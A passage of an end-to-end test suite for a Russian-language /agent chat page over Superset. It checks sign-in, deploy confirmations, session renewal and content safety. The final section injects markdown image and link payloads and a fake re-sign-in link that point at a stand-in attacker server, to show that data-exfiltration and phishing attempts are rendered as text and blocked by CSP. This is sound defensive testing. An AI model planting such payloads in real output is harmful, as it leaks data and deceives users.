/** The /agent page as a person uses it, in Debian's Chromium driven by playwright-core, against
 * the running stack: E2E_BASE_URL (the proxy's origin), E2E_USERNAME and E2E_PASSWORD (an admin),
 * E2E_SCREENSHOTS (where each state is saved, at desktop and narrow widths), E2E_SIGNING_KEY (the
 * stack's token key, to make a session that ends mid-test); E2E_SUPERSET_DEV and E2E_SUPERSET_PASSWORD
 * (the stack's dev Superset, whose pages load the drawer, and its admin's password for its API);
 * E2E_SSO_NAME and E2E_OIDC_PEOPLE (the stack's sign-in provider: its name on the button, and its
 * people file, which a test rewrites to move a person to another group), both empty where the stack
 * runs no provider: people then sign in with passwords alone, in the page and in Superset. */

import { createHash, createPrivateKey, createPublicKey, randomUUID, sign } from "node:crypto";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { chromium, request, type APIRequestContext, type Browser, type BrowserContext, type Frame, type FrameLocator, type Locator, type Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";

const BASE_URL = required("E2E_BASE_URL");
const SCREENSHOTS = required("E2E_SCREENSHOTS");
const WIDTHS = { desktop: { width: 1280, height: 860 }, narrow: { width: 390, height: 844 } };

function required(name: string): string {
  const value = process.env[name];
  if (!value) throw new Error(`${name} is not set`);
  return value;
}

/** A user token as ops signs it (EdDSA under the stack's key, E2E_SIGNING_KEY), ending at
 * `expires` (Unix seconds): the page cannot tell it from the one its sign-in gave. */
function tokenEnding(username: string, expires: number): string {
  const key = createPrivateKey(required("E2E_SIGNING_KEY"));
  const { crv, kty, x } = createPublicKey(key).export({ format: "jwk" });
  const kid = base64url(createHash("sha256").update(JSON.stringify({ crv, kty, x })).digest());
  const now = Math.floor(Date.now() / 1000);
  const header = { alg: "EdDSA", kid, typ: "JWT" };
  const claims = { sub: username, typ: "user", aud: "sstools", iat: now, exp: expires, jti: randomUUID() };
  const signed = `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(claims))}`;
  return `${signed}.${base64url(sign(null, Buffer.from(signed), key))}`;
}

function base64url(data: string | Buffer): string {
  return Buffer.from(data).toString("base64url");
}

const ADMIN = { username: required("E2E_USERNAME"), password: required("E2E_PASSWORD") };
const SUPERSET_DEV = required("E2E_SUPERSET_DEV");
const SUPERSET_ADMIN = { username: "admin", password: required("E2E_SUPERSET_PASSWORD") };
const ANALYST = { username: required("E2E_ANALYST_USERNAME"), password: required("E2E_ANALYST_PASSWORD") };
type Person = typeof ADMIN;
const SSO_NAME = process.env.E2E_SSO_NAME ?? "";
const OIDC_PEOPLE = process.env.E2E_OIDC_PEOPLE ?? "";
// People of the stack's provider (demo passwords, tools/devstack oidc.DEMO_PEOPLE): the groups
// they are in give their roles in the agent and in both Supersets.
const ANA = { username: "ana", password: "ana-demo" }; // analysts
const ADAM = { username: "adam", password: "adam-demo" }; // admins
const CARL = { username: "carl", password: "carl-demo" }; // contractors: mapped nowhere
// The question whose answer (the seeded broken chart) streams for seconds from the paced model.
const PROBLEMS = "покажи дашборды с проблемами валидации";
const DEPLOY_TO_PROD = "задеплой дашборд 1 в prod";

let browser: Browser;
// Every test has a browser context of its own (its own session storage, so its own sign-in and
// its own conversation): nothing one test leaves behind is seen by the next.
const contexts: BrowserContext[] = [];

async function newPage(): Promise<Page> {
  // A Russian-speaking person's browser: the page starts in Russian until they choose otherwise.
  const context = await browser.newContext({ viewport: WIDTHS.desktop, locale: "ru-RU" });
  contexts.push(context);
  return context.newPage();
}

async function signIn(page: Page, who: Person): Promise<void> {
  await page.locator('input[name="username"]').fill(who.username);
  await page.locator('input[name="password"]').fill(who.password);
  await page.locator('button[type="submit"]').click();
  await page.waitForURL(/\/agent/);
  await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
}

/** A new page, signed in as ``who`` through the sign-in form ``path`` sends it to; by default
 * the page as a person opens it to work in dev (a page with no environment chosen sends a
 * question without one: issue 21 gives it a default). */
async function signedIn(who: Person, path = "/agent?envId=dev"): Promise<Page> {
  const page = await newPage();
  await page.goto(`${BASE_URL}${path}`);
  await page.waitForURL(/\/login/);
  await signIn(page, who);
  return page;
}

/** The provider's own sign-in page, answered as `who`. */
async function providerSignIn(page: Page, who: Person): Promise<void> {
  await page.waitForURL(/\/interaction\//);
  await page.locator("#username").fill(who.username);
  await page.locator("#password").fill(who.password);
  await page.locator('button[type="submit"]').click();
}

/** Who the page's header says is signed in: name, and role in the page's language. */
async function header(chat: Page | FrameLocator): Promise<{ name: string | null; role: string | null }> {
  await chat.getByTestId("who-role").waitFor();
  return { name: await chat.getByTestId("who-name").textContent(), role: await chat.getByTestId("who-role").textContent() };
}

/** The role ops gives the page's signed-in person. */
async function roleOf(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const { token } = JSON.parse(sessionStorage.getItem("sstools.session") ?? "{}") as { token: string };
    const me = await fetch("/api/auth/me", { headers: { Authorization: `Bearer ${token}` } });
    return ((await me.json()) as { role: string }).role;
  });
}

/** A new page sent to sign-in, signed in through the provider as `who`. */
async function ssoSignedIn(who: Person): Promise<Page> {
  const page = await newPage();
  await page.goto(`${BASE_URL}/agent?envId=dev`);
  await page.waitForURL(/\/login/);
  await page.getByTestId("sso-sign-in").click();
  await providerSignIn(page, who);
  return page;
}

/** The page at both widths, saved; `chat` is where the chat is (the page itself, or the drawer's
 * frame inside Superset). */
async function shoot(page: Page, name: string, chat: Page | Frame = page): Promise<void> {
  for (const [width, size] of Object.entries(WIDTHS)) {
    await page.setViewportSize(size);
    await page.screenshot({ path: join(SCREENSHOTS, `${name}-${width}.png`), fullPage: true });
    // Nothing (a long id, the header) widens the chat past its room: no sideways scrolling.
    const overflow = await chat.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow, name).toBeLessThanOrEqual(0);
  }
  await page.setViewportSize(WIDTHS.desktop);
}

async function ask(page: Page, text: string): Promise<void> {
  const answers = await page.getByTestId("assistant-message").count();
  await page.getByTestId("composer").fill(text);
  await page.getByTestId("composer").press("Enter");
  await expect.poll(() => page.getByTestId("assistant-message").count()).toBe(answers + 1);
}

/** The newest answer's final state, once its stream has ended, with its text for messages. */
async function lastState(page: Page): Promise<{ state: string | null; text: string }> {
  const last = page.getByTestId("assistant-message").last();
  await last.getByTestId("state-badge").waitFor({ timeout: 120_000 });
  return { state: await last.getByTestId("state-badge").getAttribute("data-state"), text: (await last.textContent()) ?? "" };
}

async function expectState(page: Page, ...states: string[]): Promise<void> {
  const { state, text } = await lastState(page);
  expect(states, text).toContain(state);
}

async function debugSnapshot(page: Page): Promise<Record<string, unknown>> {
  return JSON.parse((await page.getByTestId("debug-json").textContent()) ?? "{}");
}

/** This page's conversation in the sidebar (of ``page`` or of another tab). */
function listed(page: Page, conversationId: unknown): Locator {
  return page.locator(`[data-testid="conversation"][data-id="${conversationId}"]`);
}

beforeAll(async () => {
  mkdirSync(SCREENSHOTS, { recursive: true });
  browser = await chromium.launch({
    executablePath: process.env.E2E_CHROMIUM ?? "/usr/bin/chromium",
    // Offline machine: no background calls home, no sandbox as root in CI.
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
});

afterEach(async () => {
  for (const context of contexts.splice(0)) await context.close();
});

afterAll(async () => {
  await browser?.close();
});

describe("the /agent page", () => {
  it("signs in and connects", async () => {
    const page = await newPage();
    // UIContext from the URL: the page opened from dev's "Sales Overview" dashboard
    await page.goto(`${BASE_URL}/agent?objectType=dashboard&objectId=1&objectName=Sales%20Overview&envId=dev`);
    await page.waitForURL(/\/login/);
    await shoot(page, "01-login");
    // Wrong passwords for a name: "wrong" while free, then "wait N s" (ops' 429), never silence
    const stranger = `nobody-${Date.now()}`;
    const seen: string[] = [];
    for (let attempt = 0; attempt < 12 && !seen.some((text) => text.includes("Слишком")); attempt++) {
      await page.locator('input[name="username"]').fill(stranger);
      await page.locator('input[name="password"]').fill(`guess-${attempt}`);
      await page.locator('button[type="submit"]').click();
      await expect.poll(() => page.locator('button[type="submit"]').isEnabled()).toBe(true);
      seen.push((await page.getByTestId("login-error").textContent())?.trim() ?? "");
    }
    expect(seen.slice(0, 5)).toEqual(Array(5).fill("Неверное имя или пароль"));
    expect(seen.at(-1)).toMatch(/^Слишком много попыток входа. Повторите через \d+ с$/);
    await signIn(page, ADMIN);
    expect(await page.getByTestId("context-pill").textContent()).toContain("дашборд Sales Overview @dev");
    expect(await header(page)).toEqual({ name: ADMIN.username, role: "администратор" });
  });

  it("keeps the environment selector in step with the context, and warns on prod", async () => {
    const page = await signedIn(ADMIN, "/agent?objectType=dashboard&objectId=1&objectName=Sales%20Overview&envId=dev");
    const select = page.getByTestId("env-select");
    await expect.poll(() => select.inputValue()).toBe("dev");
    expect(await page.getByTestId("context-pill").textContent()).toContain("дашборд Sales Overview @dev");
    expect(await page.getByTestId("prod-flag").count()).toBe(0);
    await select.selectOption("prod");
    await page.getByTestId("prod-flag").waitFor();
    expect(await page.getByTestId("context-pill").textContent()).toContain("дашборд Sales Overview @prod");
    await shoot(page, "02-prod-context");
    await select.selectOption("dev");
    await expect.poll(() => page.getByTestId("prod-flag").count()).toBe(0);
    expect(await page.getByTestId("context-pill").textContent()).toContain("@dev");
  });

  it("an empty chat offers what the person's role may ask, and an example asks it", async () => {
    const page = await signedIn(ANALYST);
    const examples = page.getByTestId("example");
    await expect.poll(() => examples.evaluateAll((buttons) => buttons.map((button) => button.dataset.tool))).toEqual([
      "get_health_summary",
      "search_dashboards",
      "superset_execute_sql",
      "show_capabilities",
    ]); // an analyst is not offered a deploy
    await shoot(page, "18-idle");
    await examples.first().click();
    expect(await page.getByTestId("user-message").textContent()).toContain("Что сломано в дашбордах?");
    await expectState(page, "issues_found");
    expect(await page.getByTestId("idle").count()).toBe(0);
  });

  it("asks for dashboards with validation problems and sees the tool cards resolve", async () => {
    const page = await signedIn(ADMIN);
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    const answer = page.getByTestId("assistant-message").last();
    expect(await answer.getByTestId("answer").textContent()).toContain("Legacy uptime");
    const cards = answer.getByTestId("tool-card");
    const tools = await cards.evaluateAll((nodes) => nodes.map((node) => [node.dataset.tool, node.dataset.status]));
    expect(tools.map(([tool]) => tool)).toEqual(["get_health_summary"]); // one read answers it
    expect(tools.filter(([, status]) => status !== "ok")).toEqual([]);
    // which model answered, under the answer: the stack's built-in planner
    expect(await answer.getByTestId("answered-by").textContent()).toBe("отвечала модель sstools-offline-planner");
    await cards.first().locator("summary").click(); // input and result expand
    await shoot(page, "02-tool-cards");
  });

  it("pauses a prod deploy on a confirmation card, and confirming runs it", async () => {
    const page = await signedIn(ADMIN);
    await ask(page, DEPLOY_TO_PROD);
    await expectState(page, "needs_confirmation");
    const card = page.getByTestId("confirm-card");
    await expect.poll(() => card.getByTestId("confirm-env").textContent()).toBe("prod");
    expect(await page.getByTestId("prod-warning").isVisible()).toBe(true);
    await shoot(page, "03-confirm-card");
    await card.getByTestId("confirm").click({ timeout: 15_000 }); // enabled once any countdown ends
    await expectState(page, "started"); // the stack's agent does not wait for a task to end
    await expect.poll(() => page.getByTestId("confirm-card").count()).toBe(0);
    // the page follows the deploy's task and shows how it ended, without being asked
    const last = page.getByTestId("assistant-message").last();
    await expect.poll(() => last.getByTestId("task-chip").getAttribute("data-status"), { timeout: 60_000 }).toBe("success");
    expect(await last.getByTestId("task-result").textContent()).toContain("prod");
    await shoot(page, "04-confirmed");
  });

  it("rejecting a pending deploy runs nothing", async () => {
    const page = await signedIn(ADMIN);
    await ask(page, DEPLOY_TO_PROD);
    await expectState(page, "needs_confirmation");
    await page.getByTestId("confirm-card").getByTestId("reject").click();
    await expectState(page, "cancelled"); // nothing ran: not "success"
    await expect.poll(() => page.getByTestId("confirm-card").count()).toBe(0);
    expect(await page.getByTestId("assistant-message").last().getByTestId("tool-card").count()).toBe(0);
    await shoot(page, "05-rejected");
  });

  it("has the composer ready to type in, and saves a query's rows as CSV", async () => {
    const page = await signedIn(ADMIN);
    const composerFocused = () => page.getByTestId("composer").evaluate((element) => element === document.activeElement);
    await expect.poll(composerFocused).toBe(true); // opened to ask: no click into the field first
    await page.keyboard.type("сколько заказов в каждом статусе?");
    await page.keyboard.press("Enter");
    await expectState(page, "success");
    const answer = page.getByTestId("assistant-message").last();
    const [download] = await Promise.all([page.waitForEvent("download"), answer.getByTestId("export-csv").click()]);
    expect(download.suggestedFilename()).toBe("result.csv");
    const lines = readFileSync(await download.path(), "utf8").trimEnd().split("\r\n");
    expect(lines[0]).toBe("status,COUNT(*)");
    // a row per status, each with the count the answer's table shows
    const shown = await answer.getByTestId("answer").locator("tbody tr").evaluateAll((rows) => rows.map((row) => Array.from(row.children, (cell) => cell.textContent).join(",")));
    expect(lines.slice(1)).toEqual(shown);
    expect(lines.length).toBeGreaterThan(1);
    // an answer that found no rows offers none to save
    await page.keyboard.type("покажи дашборды");
    await page.keyboard.press("Enter");
    await expectState(page, "success");
    expect(await page.getByTestId("assistant-message").last().getByTestId("export-csv").count()).toBe(0);
    // a card answered gives the composer back: the next request is typed at once
    await ask(page, DEPLOY_TO_PROD);
    await expectState(page, "needs_confirmation");
    await page.getByTestId("confirm-card").getByTestId("reject").click();
    await expectState(page, "cancelled");
    await expect.poll(composerFocused).toBe(true);
  });

  it("refuses an .exe in the page, naming what is supported", async () => {
    const page = await signedIn(ADMIN);
    const uploads: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes("/uploads")) uploads.push(request.url());
    });
    await page.getByTestId("file-input").setInputFiles({ name: "setup.exe", mimeType: "application/octet-stream", buffer: Buffer.from("MZ") });
    const refusal = page.getByTestId("file-rejected");
    await refusal.waitFor();
    expect(await refusal.textContent()).toContain("PDF, XLSX, CSV, JSON, PNG, JPEG");
    expect(await page.getByTestId("attached").count()).toBe(0);
    expect(uploads).toEqual([]); // refused in the page: nothing is uploaded
    await shoot(page, "06-exe-rejected");
  });

  it("reads an attached PDF and answers from it", async () => {
    const page = await signedIn(ADMIN);
    await page.getByTestId("file-input").setInputFiles(required("E2E_PDF"));
    await page.getByTestId("attached").waitFor();
    // the file goes to convo under the person's token; the message names the id convo issued
    const uploaded = page.waitForResponse((response) => response.url().includes("/uploads?name=") && response.request().method() === "POST");
    await ask(page, "что в этом документе?");
    const upload = await uploaded;
    expect(upload.status()).toBe(201);
    expect((await upload.request().allHeaders())["authorization"]).toMatch(/^Bearer /);
    // (the body is not read here: Chromium may have dropped it once the stream started)
    expect(new URL(upload.url()).searchParams.get("name")).toBe("квартальный-отчёт.pdf");
    await expectState(page, "success");
    const answer = await page.getByTestId("assistant-message").last().getByTestId("answer").textContent();
    expect(answer).toContain("задержка поставок в регионе Сибирь");
    expect(await page.getByTestId("user-message").last().textContent()).toContain("квартальный-отчёт.pdf");
    await shoot(page, "07-pdf-answer");
  });

  it("stops an answer halfway, keeps the partial text, and a second tab is told the conversation is busy", async () => {
    const page = await signedIn(ADMIN);
    // The whole answer first, to compare the stopped one with; the stack paces the offline
    // model, so each answer streams for seconds.
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    const full = (await page.getByTestId("assistant-message").last().getByTestId("answer").textContent()) ?? "";
    expect(full).toContain("Legacy uptime");
    const { conv_id: conversationId } = await debugSnapshot(page);

    const second = await page.context().newPage(); // a tab has its own session storage: it signs in
    await second.goto(`${BASE_URL}/login`);
    await signIn(second, ADMIN);
    const open = listed(second, conversationId).locator(".open");
    await open.waitFor();

    await ask(page, PROBLEMS);
    const last = page.getByTestId("assistant-message").last();
    await last.getByTestId("tool-card").first().waitFor(); // the turn is under way at the agent
    await open.click();
    await second.getByTestId("active-elsewhere").waitFor();
    const answer = last.getByTestId("answer");
    await expect.poll(async () => ((await answer.count()) ? ((await answer.textContent()) ?? "").length : 0)).toBeGreaterThan(0);
    await page.getByTestId("stop").click(); // at the first words: the rest is still to come
    await expectState(page, "cancelled");
    await last.getByTestId("partial").waitFor();
    const kept = (await answer.textContent()) ?? "";
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(await answer.textContent()).toBe(kept); // nothing arrives after the stop
    expect(kept.trim().length).toBeGreaterThan(0);
    // the words shown, without the Markdown a cut-off table shows before it becomes one
    const words = (text: string) => text.replace(/[|\s-]+/g, " ").trim();
    expect(words(full).startsWith(words(kept)), `${kept} / ${full}`).toBe(true);
    expect(words(kept).length).toBeLessThan(words(full).length); // cut short
    await second.screenshot({ path: join(SCREENSHOTS, "12-second-tab-desktop.png"), fullPage: true });
    await shoot(page, "12-stopped");

    // The stopped turn freed the conversation, and what was kept is its history, marked partial.
    await open.click();
    const reopened = second.getByTestId("assistant-message").last();
    await reopened.getByTestId("partial").waitFor();
    await expect.poll(() => second.getByTestId("active-elsewhere").count()).toBe(0);
    expect(await second.getByTestId("assistant-message").count()).toBe(2);
    expect((await reopened.getByTestId("answer").textContent()) ?? "").toContain(kept.trim().split(/\s+/).slice(0, 3).join(" "));
  });

  it("a message sent while an answer streams waits in view and goes when the answer ends", async () => {
    const page = await signedIn(ADMIN);
    await page.getByTestId("composer").fill(PROBLEMS); // its answer streams for seconds
    await page.getByTestId("composer").press("Enter");
    await expect.poll(() => page.getByTestId("assistant-message").count()).toBe(1);
    expect(await page.getByTestId("assistant-message").last().getByTestId("state-badge").count()).toBe(0);
    await page.getByTestId("composer").fill("покажи дашборды");
    await page.getByTestId("composer").press("Enter");
    expect(await page.getByTestId("queued-message").textContent()).toContain("покажи дашборды");
    expect(await page.getByTestId("composer").inputValue()).toBe("");
    await shoot(page, "15-queued");
    await expect.poll(() => page.getByTestId("assistant-message").count(), { timeout: 120_000 }).toBe(2);
    await expectState(page, "success");
    expect(await page.getByTestId("queued-message").count()).toBe(0);
    const sent = await page.getByTestId("user-message").allTextContents();
    expect(sent.map((text) => text.trim())).toEqual([PROBLEMS, "покажи дашборды"]);
  });

  it("a lost network shows the connection banner, and the page asks again by itself once it is back", async () => {
    const page = await signedIn(ADMIN);
    await page.context().setOffline(true);
    try {
      await ask(page, "покажи дашборды в dev");
      await page.getByTestId("connection-banner").waitFor();
      await page.getByTestId("list-error").waitFor(); // the sidebar could not refresh either
      await shoot(page, "13-connection-lost");
    } finally {
      await page.context().setOffline(false);
    }
    await expectState(page, "success"); // nobody pressed Retry
    expect(await page.getByTestId("assistant-message").count()).toBe(1);
    await expect.poll(() => page.getByTestId("connection-banner").count()).toBe(0);
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    await expect.poll(() => page.getByTestId("list-error").count()).toBe(0);
  });

  it("copies the debug block as valid JSON", async () => {
    const page = await signedIn(ADMIN);
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    await page.getByTestId("debug").locator("summary").click();
    await expect
      .poll(() => debugSnapshot(page))
      .toMatchObject({ connection: "connected", streaming: false, active_tool_calls: 0, message_count: 2 });
    await shoot(page, "07-debug");
  });

  it("keeps English chosen at sign-in across the sign-in and a reload, and answers in it", async () => {
    const page = await newPage();
    await page.goto(`${BASE_URL}/agent?envId=dev`);
    await page.waitForURL(/\/login/);
    expect(await page.locator('button[type="submit"]').textContent()).toBe("Войти"); // the browser's language
    await page.getByTestId("lang-en").click();
    expect(await page.locator('button[type="submit"]').textContent()).toBe("Sign in");
    await signIn(page, ADMIN);
    expect(await page.getByTestId("send").textContent()).toBe("Send");
    expect(await page.getByTestId("connection").textContent()).toBe("connected");
    await page.reload();
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    expect(await page.getByTestId("send").textContent()).toBe("Send");
    expect(await header(page)).toEqual({ name: ADMIN.username, role: "admin" }); // kept with the session
    await ask(page, "SELECT count(*) FROM sales"); // no words of either language: the page's decides
    await expectState(page, "success");
    const answer = (await page.getByTestId("assistant-message").last().getByTestId("answer").textContent()) ?? "";
    expect(answer).toMatch(/400/);
    expect(answer, "an English answer").not.toMatch(/[а-яё]/i);
    await shoot(page, "08-english");
    await page.getByTestId("lang-ru").click();
    expect(await page.getByTestId("send").textContent()).toBe("Отправить");
    expect(await page.getByTestId("connection").textContent()).toBe("подключено");
  });

  it("after a reload a conversation is found by a word of its content, and its whole row opens it", async () => {
    const page = await signedIn(ADMIN);
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    const word = `метка${Date.now()}`; // in a later message only: the title is the first one
    await ask(page, `запомни ${word}`);
    await lastState(page);
    const { conv_id: conversationId } = await debugSnapshot(page);
    await page.reload();
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    await page.getByTestId("conversation-search").fill(word);
    await expect.poll(() => page.getByTestId("conversation").count()).toBe(1);
    const item = listed(page, conversationId);
    expect(await item.locator(".open").textContent()).toContain(PROBLEMS);
    await item.locator("small").click(); // the row, not its title
    await expect.poll(() => page.getByTestId("assistant-message").count()).toBe(2);
    expect(await page.getByTestId("user-message").allTextContents()).toEqual([
      expect.stringContaining(PROBLEMS),
      expect.stringContaining(word),
    ]);
    expect(await page.getByTestId("assistant-message").first().getByTestId("answer").textContent()).toContain("Legacy uptime");
    expect(await page.getByTestId("tool-card").count()).toBeGreaterThan(0);
    expect(await page.locator('[data-testid="tool-card"][data-status="running"]').count()).toBe(0); // finished, shown so
    await shoot(page, "09-sidebar");
    await page.getByTestId("conversation-search").fill(`нет-такого-${word}`);
    await page.getByTestId("no-conversations").waitFor();
  });

  it("archives a conversation, closing it, and restores it from the archive to continue", async () => {
    const page = await signedIn(ADMIN);
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    const { conv_id: conversationId } = await debugSnapshot(page);
    const item = listed(page, conversationId);
    await item.waitFor();
    await item.getByTestId("archive").click();
    await expect.poll(() => item.count()).toBe(0);
    // the open conversation was closed: the page goes on in a new, empty one
    await expect.poll(async () => (await debugSnapshot(page)).conv_id).not.toBe(conversationId);
    expect(await page.getByTestId("assistant-message").count()).toBe(0);
    await page.getByTestId("archived-filter").check();
    await expect.poll(() => item.count()).toBe(1);
    await item.getByTestId("restore").click();
    await expect.poll(() => item.count()).toBe(0);
    await page.getByTestId("archived-filter").uncheck();
    await expect.poll(() => item.count()).toBe(1);

    // archived again and opened from the archive: read, not continued, until restored there
    await item.getByTestId("archive").click();
    await page.getByTestId("archived-filter").check();
    await item.locator("small").click();
    await expect.poll(() => page.getByTestId("assistant-message").count()).toBe(1);
    await page.getByTestId("archived-banner").waitFor();
    expect(await page.getByTestId("composer").isDisabled()).toBe(true);
    expect(await page.getByTestId("send").isDisabled()).toBe(true);
    await shoot(page, "10-archived");
    await page.getByTestId("restore-open").click();
    await expect.poll(() => page.getByTestId("archived-banner").count()).toBe(0);
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    expect(await page.getByTestId("assistant-message").count()).toBe(2);
    expect((await debugSnapshot(page)).conv_id).toBe(conversationId);
  });

  it("an access token that ends mid-conversation is renewed without the person noticing", async () => {
    const page = await signedIn(ADMIN);
    type Kept = { token: string; refreshToken: string; expiresAt: number };
    const kept = () => page.evaluate(() => JSON.parse(sessionStorage.getItem("sstools.session") ?? "{}") as Kept);
    const before = await kept();
    const ends = Math.floor(Date.now() / 1000) + 15;
    const short = tokenEnding(ADMIN.username, ends);
    // said to last an hour, so that the page does not renew it ahead: the agent refuses it first
    const session = { ...before, token: short, expiresAt: Date.now() + 3_600_000 };
    await page.evaluate((replaced) => sessionStorage.setItem("sstools.session", JSON.stringify(replaced)), session);
    await page.reload();
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    await new Promise((resolve) => setTimeout(resolve, (ends + 1) * 1000 - Date.now()));
    await ask(page, PROBLEMS);
    await expectState(page, "issues_found");
    expect(page.url()).toContain("/agent");
    const after = await kept();
    expect(after.token).not.toBe(short);
    expect(after.refreshToken).not.toBe(before.refreshToken); // used up by the renewal
  });

  it("when the session ends mid-conversation it returns to sign-in and the unsent message waits there", async () => {
    const page = await signedIn(ADMIN);
    // A real token of ops' key that ends in a few seconds, and no refresh token: a session ops
    // will not renew, as after a sign-out elsewhere or a disabled account.
    const ends = Math.floor(Date.now() / 1000) + 15;
    const session = { token: tokenEnding(ADMIN.username, ends), username: ADMIN.username };
    await page.evaluate((kept) => sessionStorage.setItem("sstools.session", JSON.stringify(kept)), session);
    await page.reload();
    await expect.poll(() => page.getByTestId("connection").getAttribute("data-state")).toBe("connected");
    const { conv_id: conversation } = await debugSnapshot(page);
    const text = `${PROBLEMS}, пожалуйста`;
    await page.getByTestId("composer").fill(text);
    await new Promise((resolve) => setTimeout(resolve, (ends + 1) * 1000 - Date.now())); // it has ended meanwhile
    await page.getByTestId("composer").press("Enter");
    await page.waitForURL(/\/login/);
    expect(await page.getByTestId("session-ended").textContent()).toContain("Неотправленное сообщение сохранено");
    await shoot(page, "14-session-ended");
    await signIn(page, ADMIN);
    await expect.poll(() => page.getByTestId("composer").inputValue()).toBe(text);
    expect((await debugSnapshot(page)).conv_id).toBe(conversation); // where it was being written
    await ask(page, text); // and it goes, now
    await expectState(page, "issues_found");
  });

  it("an analyst asking for a prod deploy gets the permission-denied card, with alternatives, and closes it", async () => {
    const page = await signedIn(ANALYST);
    await ask(page, DEPLOY_TO_PROD);
    await expectState(page, "denied");
    const card = page.getByTestId("denied-card");
    // the tool, the role it needs, and the analyst's own role, as the agent sent them
    // the card follows the state badge by a render: wait for it, then read it whole
    await expect.poll(() => card.locator("code").allTextContents()).toEqual(["deploy_dashboard"]);
    expect(await card.locator("strong").allTextContents()).toEqual(["admin", "analyst"]);
    expect(await card.getByTestId("alternative").allTextContents()).toEqual(["Что сломано в дашбордах?", "Покажи дашборды"]);
    expect(await page.getByTestId("confirm-card").count()).toBe(0);
    await shoot(page, "11-permission-denied");
    await card.getByTestId("close-denied").click();
    await expect.poll(() => page.getByTestId("denied-card").count()).toBe(0);

    // An alternative is one click: its prompt is asked as the next message.
    await ask(page, DEPLOY_TO_PROD);
    await expectState(page, "denied");
    const alternative = page.getByTestId("denied-card").getByTestId("alternative").first();
    await alternative.click();
    await expect.poll(() => page.getByTestId("user-message").count()).toBe(3);
    expect(await page.getByTestId("user-message").last().textContent()).toContain("Что сломано в дашбордах?");
    await expectState(page, "issues_found");
    await expect.poll(() => page.getByTestId("denied-card").count()).toBe(0);
  });
});

describe("what Superset and its databases hold is shown as text, never fetched or followed", () => {
  // A listener on loopback standing for an attacker's server: an image or link that the page
  // rendered, or fetched past its CSP, would reach it. The page would otherwise load it (no
  // mixed content, no private-network hop: the page is on loopback too).
  let listener: Server;
  let leaks: string[] = [];
  let evil = "";

  beforeAll(async () => {
    listener = createServer((incoming, response) => {
      leaks.push(incoming.url ?? "");
      response.writeHead(200, { "Content-Type": "image/gif" }).end();
    });
    await new Promise<void>((ready) => listener.listen(0, "127.0.0.1", ready));
    evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  });

  afterEach(() => {
    leaks = [];
  });

  afterAll(async () => {
    await new Promise((closed) => listener?.close(closed));
  });

  /** Nothing reached the listener, given the time a request takes on loopback. */
  async function nothingFetched(): Promise<void> {
    await new Promise((settle) => setTimeout(settle, 1500));
    expect(leaks).toEqual([]);
  }

  it("serves the page under a strict CSP that keeps even a planted image from loading", async () => {
    const shell = await fetch(`${BASE_URL}/agent`);
    const header = shell.headers.get("content-security-policy") ?? "";
    const policy = Object.fromEntries(header.split(";").map((part) => part.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
    expect(policy["default-src"]).toEqual(["'self'"]);
    expect(policy["img-src"]).toEqual(["'self'", "data:"]);
    expect(policy["connect-src"]).toEqual(["'self'"]);
    expect(policy["frame-ancestors"]).toEqual(expect.arrayContaining(["'self'", SUPERSET_DEV]));
    // the page's own policy narrows scripts to its bootstrap's hash: nothing else inline runs
    const meta = (await shell.text()).match(/<meta http-equiv="content-security-policy" content="([^"]+)">/)?.[1] ?? "";
    expect(meta).toMatch(/script-src 'self' 'sha256-[^']+'/);
    expect(meta).not.toMatch(/script-src[^;]*unsafe-inline/);

    const page = await signedIn(ADMIN);
    const refused: string[] = [];
    page.on("console", (message) => {
      if (message.type() === "error" && message.text().includes("Content Security Policy")) refused.push(message.text());
    });
    // should anything ever put an <img> into the page, the browser still refuses to fetch it
    const loaded = await page.evaluate(
      (source) =>
        new Promise<boolean>((settled) => {
          const image = new Image();
          image.onload = () => settled(true);
          image.onerror = () => settled(false);
          image.src = source;
          document.body.append(image);
        }),
      `${evil}/planted.gif?d=secret`,
    );
    expect(loaded).toBe(false);
    await nothingFetched();
    expect(refused.join("\n")).toContain("img-src");
    // and under that policy the page works: the chat connected (signedIn) and answers
    await ask(page, "покажи дашборды в dev");
    await expectState(page, "success");
  });

  it("a result cell or a column carrying an image or a link is shown as its text", async () => {
    const page = await signedIn(ADMIN);
    const image = `![x](${evil}/leak?d=secret)`;
    const link = `[Session expired - sign in again](${evil}/login)`;
    await ask(page, `выполни SQL на dev в базе examples: SELECT 1 AS n, '${image}' AS c, '${link}' AS "![h](${evil}/column)"`);
    await expectState(page, "success");
    const answer = page.getByTestId("assistant-message").last().getByTestId("answer");
    expect(await answer.locator("table").count()).toBe(1);
    expect(await answer.locator("img, a").count()).toBe(0);
    expect(await answer.locator("th, td").allTextContents()).toEqual(["n", "c", `![h](${evil}/column)`, "1", image, link]);
    await nothingFetched();
  });

  /** Headers for a write to dev Superset's API as its admin: a token, and the CSRF token bound to
   * the session cookie the context keeps. */
  async function supersetWrites(superset: APIRequestContext): Promise<Record<string, string>> {
    const login = await superset.post("/api/v1/security/login", { data: { ...SUPERSET_ADMIN, provider: "db" } });
    const authorization = `Bearer ${(await login.json()).access_token}`;
